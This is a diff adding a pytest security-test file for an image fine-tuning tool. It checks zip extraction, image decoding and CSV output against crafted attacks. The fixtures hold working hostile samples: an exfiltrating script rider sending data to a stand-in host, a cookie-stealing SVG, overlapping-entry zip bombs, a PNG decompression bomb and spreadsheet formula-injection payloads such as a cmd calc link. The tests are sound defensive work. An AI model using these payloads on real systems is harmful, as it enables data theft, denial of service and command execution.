@@ -1,0 +1,454 @@
+"""Hostile input, crafted by hand: each test builds what an attacker would send and asserts the safe outcome.
+
+Zips with active riders and overlapping entries, racing extractions, a full disk, decompression-bomb
+images, an EPS document named .jpg, and file and class names that are spreadsheet formulas.
+"""
+
+from __future__ import annotations
+
+import csv
+import hashlib
+import json
+import os
+import random
+import shutil
+import struct
+import subprocess
+import sys
+import threading
+import zipfile
+import zlib
+from pathlib import Path
+
+import pytest
+from PIL import Image
+
+from conftest import REPO, make_class_folders, make_image, tree_digest
+from finetune import data as data_module
+from finetune.archive import MANIFEST, QuotaExceeded, check_zip, disk_usage, extract, extract_zip, read_extraction
+from finetune.config import FinetuneError
+from finetune.data import check_image, check_images, load_rgb, scan_dataset
+
+MB = 1024 * 1024
+
+
+def zip_folder(folder: Path, out: Path, extra: dict[str, bytes] | None = None) -> Path:
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
+        for path in sorted(folder.rglob("*")):
+            if path.is_file():
+                archive.write(path, path.relative_to(folder).as_posix())
+        for name, content in (extra or {}).items():
+            archive.writestr(name, content)
+    return out
+
+
+def assert_nothing_written(dest: Path) -> None:
+    assert not dest.exists() or not any(dest.iterdir()), sorted(p.name for p in dest.iterdir())
+
+
+def assert_one_line_naming(error: pytest.ExceptionInfo, name: str) -> None:
+    text = str(error.value)
+    assert "\n" not in text and name in text, text
+
+
+# ---------------------------------------------------------------------------------------------
+# Zips: riders, overlapping entries, races, disk
+
+
+def test_zip_with_html_svg_and_script_riders_extracts_only_images(tmp_path):
+    data = make_class_folders(tmp_path / "src", per_class=3)
+    riders = {
+        "index.html": b"<script>fetch('/config').then(r => r.text()).then(t => location = 'http://x/?' + t)</script>",
+        "cats/evil.svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"/>',
+        "dogs/app.js": b"alert(1)",
+        "dogs/photo.png.html": b"<script>alert(2)</script>",
+        "readme.txt": b"hello",
+        "__MACOSX/cats/._img_0.png": b"appledouble",
+        "__MACOSX/dogs/._img_0.png": b"appledouble",
+        "cats/.DS_Store": b"junk",
+    }
+    archive = zip_folder(data, tmp_path / "riders.zip", riders)
+    archive_sha = hashlib.sha256(archive.read_bytes()).hexdigest()
+    result = extract(archive, tmp_path / "uploads")
+
+    written = sorted(p.relative_to(result.folder).as_posix() for p in result.folder.rglob("*") if p.is_file())
+    assert written == [MANIFEST] + [f"{c}/img_{i}.png" for c in ("cats", "dogs") for i in range(3)]
+    skipped = dict(result.skipped)
+    assert skipped == {
+        "index.html": "not an image file", "cats/evil.svg": "not an image file", "dogs/app.js": "not an image file",
+        "dogs/photo.png.html": "not an image file", "readme.txt": "not an image file",
+        "__MACOSX/": "hidden or system folder", "cats/.DS_Store": "hidden or system file",
+    }
+    assert result.files == 6 and result.sha256 == archive_sha and not result.reused
+    # the manifest keeps the report for whoever reuses the folder later
+    again = read_extraction(result.root)
+    assert again is not None and again.skipped == result.skipped and again.sha256 == archive_sha
+    assert extract_zip(archive, tmp_path / "uploads") == result.root
+    assert scan_dataset(result.root).classes == ["cats", "dogs"]
+    assert hashlib.sha256(archive.read_bytes()).hexdigest() == archive_sha  # the upload is only read
+
+
+def test_zip_of_riders_only_is_refused_by_name(tmp_path):
+    archive = tmp_path / "site.zip"
+    with zipfile.ZipFile(archive, "w") as z:
+        z.writestr("index.html", "<script>alert(1)</script>")
+        z.writestr("img/logo.svg", "<svg onload='alert(1)'/>")
+    with pytest.raises(FinetuneError, match="no image files") as error:
+        extract_zip(archive, tmp_path / "uploads")
+    assert_one_line_naming(error, "site.zip")
+    assert "index.html" in str(error.value)
+    assert_nothing_written(tmp_path / "uploads")
+
+
+def overlapping_zip(path: Path, count: int, block_parts, method: int) -> Path:
+    """`count` central-directory entries that all point at one local entry: the CVE-2024-0450 shape.
+
+    `block_parts` yields the raw bytes of the one shared entry (streamed, so a 100 MB block costs
+    no memory here).
+    """
+    crc, raw_size = 0, 0
+    packer = zlib.compressobj(9, zlib.DEFLATED, -15) if method == zipfile.ZIP_DEFLATED else None
+    chunks = []
+    for part in block_parts:
+        crc, raw_size = zlib.crc32(part, crc), raw_size + len(part)
+        chunks.append(packer.compress(part) if packer else part)
+    if packer:
+        chunks.append(packer.flush())
+    payload = b"".join(chunks)
+    names = [f"cats/{i:04d}.png".encode() for i in range(count)]
+    local = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, method, 0, 0x21, crc, len(payload), raw_size,
+                        len(names[0]), 0) + names[0]
+    central = b"".join(
+        struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, method, 0, 0x21, crc, len(payload), raw_size,
+                    len(name), 0, 0, 0, 0, 0, 0) + name
+        for name in names)
+    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(central), len(local) + len(payload), 0)
+    path.write_bytes(local + payload + central + end)
+    return path
+
+
+def stored_megabyte():
+    yield random.Random(0).randbytes(MB)  # incompressible: every claimed ratio is 1:1
+
+
+def deflated_hundred_to_one():
+    """About 100 MB that deflates 100:1 to about 1 MB: under the per-entry ratio limit of 200:1."""
+    rng = random.Random(1)
+    for _ in range(900):
+        yield rng.randbytes(1000) + bytes(109_000)
+
+
+@pytest.mark.parametrize("count, block, method", [
+    (300, stored_megabyte, zipfile.ZIP_STORED),  # 300 MB from a 1 MB file, every ratio claimed 1:1
+    (60, deflated_hundred_to_one, zipfile.ZIP_DEFLATED),  # 6 GB from a 1 MB file, 100:1 per entry
+], ids=["stored", "deflated"])
+def test_overlapping_entries_zip_is_refused(tmp_path, count, block, method):
+    archive = overlapping_zip(tmp_path / "overlap.zip", count, block(), method)
+    size = archive.stat().st_size
+    assert size < 1.2 * MB
+    with zipfile.ZipFile(archive) as z:  # Python's zipfile (3.11.7) takes it for a plain archive
+        infos = z.infolist()
+        assert len(infos) == count and sum(i.file_size for i in infos) > 250 * size
+        assert all(i.file_size <= 200 * i.compress_size for i in infos)
+    with pytest.raises(FinetuneError, match="zip bomb") as error:
+        extract_zip(archive, tmp_path / "uploads")
+    assert_one_line_naming(error, "overlap.zip")
+    assert "on disk" in str(error.value)  # measured against the real file, not the claimed sizes
+    assert_nothing_written(tmp_path / "uploads")
+    # even with the ratio limits out of the way, entries that share their data are refused
+    with pytest.raises(FinetuneError, match="overlap") as error:
+        check_zip(archive, max_ratio=1e9, max_total_bytes=1 << 60)
+    assert_one_line_naming(error, "overlap.zip")
+
+
+def test_two_entries_sharing_one_block_are_refused_under_every_size_limit(tmp_path):
+    archive = overlapping_zip(tmp_path / "twice.zip", 2, stored_megabyte(), zipfile.ZIP_STORED)
+    with pytest.raises(FinetuneError, match="'cats/0000.png' and 'cats/0001.png' overlap") as error:
+        extract_zip(archive, tmp_path / "uploads")
+    assert_one_line_naming(error, "twice.zip")
+    assert_nothing_written(tmp_path / "uploads")
+
+
+def test_concurrent_extractions_of_one_zip_share_one_complete_folder(tmp_path):
+    data = make_class_folders(tmp_path / "src", per_class=15, size=(200, 160))
+    for i in range(4):  # larger files widen the window in which the extractions overlap
+        (data / "cats" / f"noise_{i}.png").write_bytes(random.Random(i).randbytes(2 * MB))
+    archive = zip_folder(data, tmp_path / "race.zip")
+    expected = tree_digest(data)
+    dest = tmp_path / "uploads"
+    threads, results, errors = 6, [], []
+    start = threading.Barrier(threads)
+
+    def worker():
+        try:
+            start.wait()
+            results.append(extract(archive, dest))
+        except BaseException as error:  # noqa: BLE001 - reported below
+            errors.append(error)
+
+    pool = [threading.Thread(target=worker) for _ in range(threads)]
+    for thread in pool:
+        thread.start()
+    for thread in pool:
+        thread.join()
+    assert not errors, errors
+    assert len({r.root for r in results}) == 1
+    root = results[0].root
+    assert [p.name for p in dest.iterdir()] == [root.name]  # no partial or replaced folders left behind
+    assert {k: v for k, v in tree_digest(root).items() if k != MANIFEST} == expected
+    assert read_extraction(root).sha256 == hashlib.sha256(archive.read_bytes()).hexdigest()
+
+
+def test_reuse_needs_a_manifest_with_the_full_sha256(tmp_path):
+    data = make_class_folders(tmp_path / "src", per_class=2)
+    archive = zip_folder(data, tmp_path / "d.zip")
+    dest = tmp_path / "uploads"
+    first = extract(archive, dest)
+    manifest = first.folder / MANIFEST
+    assert extract(archive, dest).reused
+
+    # no marker, a marker from an older version (no hash) or a damaged one: extract again, in place
+    # (a marker with another archive's hash is the collision case below)
+    for marker in (None, "d.zip\n", manifest.read_text()[:40]):
+        if marker is None:
+            manifest.unlink()
+        else:
+            manifest.write_text(marker)
+        (first.root / "cats" / "img_0.png").write_bytes(b"tampered")
+        again = extract(archive, dest)
+        assert not again.reused and again.folder == first.folder
+        assert (again.root / "cats" / "img_0.png").read_bytes() == (data / "cats" / "img_0.png").read_bytes()
+        assert [p.name for p in dest.iterdir()] == [first.folder.name]
+
+
+def test_an_archive_whose_hash_prefix_collides_never_reuses_the_other(tmp_path):
+    data = make_class_folders(tmp_path / "src", per_class=2)
+    archive = zip_folder(data, tmp_path / "d.zip")
+    dest = tmp_path / "uploads"
+    sha = hashlib.sha256(archive.read_bytes()).hexdigest()
+    # someone else's complete extraction under the same <name>-<12 hex> folder, e.g. a crafted collision
+    other = dest / f"d-{sha[:12]}"
+    make_class_folders(other, classes=("planted", "files"), per_class=1)
+    (other / MANIFEST).write_text(json.dumps({"archive": "d.zip", "sha256": "f" * 64, "files": 2, "bytes": 1}))
+    before = tree_digest(other)
+    result = extract(archive, dest)
+    assert result.folder == dest / f"d-{sha}" and scan_dataset(result.root).classes == ["cats", "dogs"]
+    assert tree_digest(other) == before
+
+
+def test_disk_quota_refuses_an_extraction_that_would_overfill_the_workspace(tmp_path):
+    data = make_class_folders(tmp_path / "src", per_class=2)
+    for i in range(3):
+        (data / "dogs" / f"big_{i}.png").write_bytes(random.Random(i).randbytes(MB))
+    archive = zip_folder(data, tmp_path / "big.zip")
+    workspace = tmp_path / "workspace"
+    (workspace / "predictions").mkdir(parents=True)
+    (workspace / "predictions" / "old.csv").write_bytes(bytes(2 * MB))
+    used = disk_usage(workspace)
+    assert used >= 2 * MB
+    with pytest.raises(QuotaExceeded, match=r"over its limit of 4\.2 MB") as error:
+        extract(archive, workspace / "uploads", max_dest_bytes=4 * MB, quota_folder=workspace)
+    assert_one_line_naming(error, "big.zip")
+    assert error.value.used == used and error.value.need >= 3 * MB
+    assert_nothing_written(workspace / "uploads")
+    result = extract(archive, workspace / "uploads", max_dest_bytes=8 * MB, quota_folder=workspace)
+    assert disk_usage(workspace) >= used + 3 * MB and result.files == 7
+
+
+def test_disk_usage_counts_blocks_once_and_does_not_follow_links(tmp_path):
+    assert disk_usage(tmp_path / "missing") == 0
+    (tmp_path / "a").mkdir()
+    (tmp_path / "a" / "f").write_bytes(bytes(100_000))
+    os.link(tmp_path / "a" / "f", tmp_path / "a" / "hard")
+    os.symlink("/", tmp_path / "a" / "root")
+    usage = disk_usage(tmp_path / "a")
+    assert 100_000 <= usage < 100_000 + 64 * 1024
+
+
+# ---------------------------------------------------------------------------------------------
+# Images: decompression bombs and formats chosen by content
+
+
+def bomb_png(path: Path, width: int = 12000, height: int = 12000) -> Path:
+    """A valid single-colour greyscale PNG of `width` x `height` (144 megapixels by default) in about
+    140 KB, written row by row so making it costs no memory."""
+    def chunk(kind: bytes, body: bytes) -> bytes:
+        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
+
+    packer = zlib.compressobj(9)
+    row = bytes(width + 1)  # filter byte 0, then black pixels
+    pixels = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
+    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_bytes(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b""))
+    return path
+
+
+@pytest.fixture(scope="module")
+def bomb(tmp_path_factory) -> Path:
+    return bomb_png(tmp_path_factory.mktemp("bomb") / "bomb.png")
+
+
+def bomb_dataset(root: Path, bomb: Path, per_class: int) -> Path:
+    make_class_folders(root, per_class=3)
+    for name in ("cats", "dogs"):
+        for i in range(per_class):
+            shutil.copy(bomb, root / name / f"huge_{i}.png")
+    return root
+
+
+def test_bomb_png_is_skipped_and_named_without_decoding(tmp_path, bomb):
+    assert bomb.stat().st_size < 400_000
+    root = bomb_dataset(tmp_path / "d", bomb, per_class=1)
+    before = tree_digest(root)
+    scan = scan_dataset(root)
+    reasons = dict(scan.skipped)
+    assert set(reasons) == {"cats/huge_0.png", "dogs/huge_0.png"}
+    assert reasons["cats/huge_0.png"] == "image too large: 144 megapixels, over the limit of 40 megapixels"
+    assert "huge_0.png" in scan.report() and len(scan.train) + len(scan.val) == 6
+    with pytest.raises(Image.DecompressionBombError, match="image too large"):
+        load_rgb(root / "cats" / "huge_0.png")
+    # PIL itself is held to the limit, for decoders outside the engine (the app's image upload)
+    with pytest.raises(Image.DecompressionBombError):
+        Image.open(bomb)
+    assert tree_digest(root) == before
+
+
+MEMORY_PROBE = """
+import json, resource, sys
+import sklearn.model_selection  # imported by the split: not part of what is measured
+from finetune.data import scan_dataset
+before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+scan = scan_dataset(sys.argv[1])
+after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+print(json.dumps({"growth_mb": (after - before) / 1024, "skipped": len(scan.skipped)}))
+"""
+
+
+def test_scanning_many_bombs_keeps_peak_memory_bounded(tmp_path, bomb):
+    root = bomb_dataset(tmp_path / "d", bomb, per_class=4)
+    env = {k: v for k, v in os.environ.items() if k != "FINETUNE_MAX_PIXELS"}
+    done = subprocess.run([sys.executable, "-c", MEMORY_PROBE, str(root)], cwd=REPO, env=env,
+                          capture_output=True, text=True, timeout=120)
+    assert done.returncode == 0, done.stderr[-2000:]
+    result = json.loads(done.stdout.strip().splitlines()[-1])
+    assert result["skipped"] == 8
+    # decoding even one of them would take 144 MB (greyscale) + 432 MB (RGB); eight in parallel, gigabytes
+    assert result["growth_mb"] < 60, result
+    print(f"peak memory grew by {result['growth_mb']:.1f} MB")
+
+
+def test_parallel_decoding_holds_at_most_the_pixel_limit_at_once(tmp_path, monkeypatch):
+    monkeypatch.setenv("FINETUNE_MAX_PIXELS", "1000000")
+    root = tmp_path / "big"
+    for i in range(8):
+        make_image(root / f"{i}.png", (10 * i, 80, 160), size=(700, 700))  # 0.49 megapixels each
+    peaks = []
+
+    class Recording(data_module.PixelBudget):
+        @data_module.contextmanager
+        def hold(self, pixels):
+            with super().hold(pixels):
+                peaks.append(self.used)
+                yield
+
+    monkeypatch.setattr(data_module, "PixelBudget", Recording)
+    assert check_images(root, [f"{i}.png" for i in range(8)], workers=8) == {}
+    assert len(peaks) == 8 and max(peaks) <= 1_000_000
+
+
+EPS = b"""%!PS-Adobe-3.0 EPSF-3.0
+%%BoundingBox: 0 0 64 64
+%%EndComments
+(pwned) print
+newpath 0 0 moveto 64 64 lineto stroke
+showpage
+%%EOF
+"""
+
+
+def test_eps_named_jpg_is_refused_without_ghostscript(tmp_path, monkeypatch):
+    from PIL import EpsImagePlugin
+
+    calls = []
+    monkeypatch.setattr(EpsImagePlugin, "Ghostscript", lambda *args, **kwargs: calls.append(args) or 1 / 0)
+    root = make_class_folders(tmp_path / "d", per_class=3)
+    fake = root / "cats" / "holiday.jpg"
+    fake.write_bytes(EPS)
+    with Image.open(fake) as opened:  # what an unrestricted open does: EPS, whatever the name says
+        assert opened.format == "EPS"
+    before = tree_digest(root)
+    assert check_image(fake) == "not a readable image"
+    with pytest.raises(Image.UnidentifiedImageError):
+        load_rgb(fake)
+    assert dict(scan_dataset(root).skipped) == {"cats/holiday.jpg": "not a readable image"}
+    assert calls == []
+    assert tree_digest(root) == before
+
+
+# ---------------------------------------------------------------------------------------------
+# CSV injection
+
+
+FORMULA_FILE = '=HYPERLINK("http://x","y").png'
+
+
+def read_rows(path: Path) -> list[list[str]]:
+    with open(path, newline="", encoding="utf-8") as f:
+        return list(csv.reader(f))
+
+
+def test_prediction_csv_escapes_formula_names_and_keeps_numbers(tmp_path):
+    from finetune.predict import Prediction, write_csv
+
+    predictions = [
+        Prediction(FORMULA_FILE, [("+cmd", 0.75), ("@SUM(1)", 0.2), ("-2+3", 0.05)]),
+        Prediction("\t=1+1.png", error="=cannot decode"),
+        Prediction("plain.png", [("cats", 1.0), ("dogs", 0.0), ("\rowls", 0.0)]),
+    ]
+    rows = read_rows(write_csv(predictions, tmp_path / "p.csv", top_k=3))
+    assert rows[0] == ["path", "prediction", "confidence", "class_2", "probability_2", "class_3", "probability_3",
+                       "error"]
+    assert rows[1] == ["'" + FORMULA_FILE, "'+cmd", "0.750000", "'@SUM(1)", "0.200000", "'-2+3", "0.050000", ""]
+    assert rows[2] == ["'\t=1+1.png", "", "", "", "", "", "", "'=cannot decode"]
+    assert rows[3] == ["plain.png", "cats", "1.000000", "dogs", "0.000000", "'\rowls", "0.000000", ""]
+
+
+def test_evaluation_csvs_escape_formula_names_and_keep_numbers(tmp_path):
+    from finetune.evaluate import compute_metrics, write_reports
+
+    classes = ["+cmd", "@SUM(1)", "cats"]
+    paths = [FORMULA_FILE, "=cmd|' /C calc'!A0.png", "a.png", "b.png"]
+    targets = [0, 1, 2, 2]
+    probs = [[0.1, 0.9, 0.0], [0.8, 0.2, 0.0], [0.0, 0.0, 1.0], [0.0, 0.3, 0.7]]
+    metrics = compute_metrics(targets, probs, classes, paths)
+    write_reports(tmp_path, metrics, prefix="test_")
+    per_class = read_rows(tmp_path / "test_per_class.csv")
+    assert per_class[0] == ["class", "precision", "recall", "f1", "support"]
+    assert [row[0] for row in per_class[1:]] == ["'+cmd", "'@SUM(1)", "cats"]
+    assert per_class[3] == ["cats", "1.0000", "1.0000", "1.0000", "2"]
+    wrong = read_rows(tmp_path / "test_misclassified.csv")
+    assert wrong[0] == ["path", "true", "predicted", "confidence"]
+    assert wrong[1] == ["'" + FORMULA_FILE, "'+cmd", "'@SUM(1)", "0.900000"]
+    assert wrong[2] == ["'=cmd|' /C calc'!A0.png", "'@SUM(1)", "'+cmd", "0.800000"]
+    assert (tmp_path / "test_metrics.json").is_file() and (tmp_path / "test_confusion_matrix.png").is_file()
+
+
+def test_formula_file_and_class_names_from_a_real_folder(tmp_path):
+    """The names come from the user's folder: a file and class folders named as formulas scan fine,
+    the folder is not changed, and the CSV the app writes of them is escaped."""
+    from finetune.predict import Prediction, write_csv
+
+    on_disk = '=HYPERLINK("https:x.example","y").png'  # a file name cannot hold the "//"
+    root = make_class_folders(tmp_path / "d", classes=("+cmd", "@SUM(1)"), per_class=3)
+    make_image(root / "@SUM(1)" / on_disk)
+    before = tree_digest(root)
+    scan = scan_dataset(root)
+    assert scan.classes == ["+cmd", "@SUM(1)"] and scan.skipped == []
+    items = scan.train + scan.val
+    assert f"@SUM(1)/{on_disk}" in [rel for rel, _ in items]
+    predictions = [Prediction(Path(rel).name, [(scan.classes[label], 0.875)]) for rel, label in items]
+    rows = read_rows(write_csv(predictions, tmp_path / "p.csv", top_k=1))
+    assert ["'" + on_disk, "'@SUM(1)", "0.875000", ""] in rows
+    assert all(row[1] in ("'+cmd", "'@SUM(1)") and row[2] == "0.875000" for row in rows[1:])
+    assert tree_digest(root) == before
